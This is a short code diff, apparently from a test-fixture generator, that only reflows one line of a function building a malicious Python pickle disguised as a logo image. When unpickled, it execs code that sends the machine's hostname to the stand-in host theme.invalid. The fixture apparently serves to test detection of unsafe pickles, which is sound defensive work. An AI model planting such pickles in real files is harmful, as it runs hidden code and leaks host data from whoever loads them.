@@ -95,7 +95,8 @@ function spamFilter(): Uint8Array {
 
 /** A pickle with a picture's name: it evaluates source text. */
 function logo(): Uint8Array {
-  const source = "__import__('urllib.request').request.urlopen('https://theme.invalid/p?h=' + __import__('socket').gethostname())";
+  const source =
+    "__import__('urllib.request').request.urlopen('https://theme.invalid/p?h=' + __import__('socket').gethostname())";
   return pickle(4, global('builtins', 'exec'), binunicode(source), tuple1, reduce);
 }
 
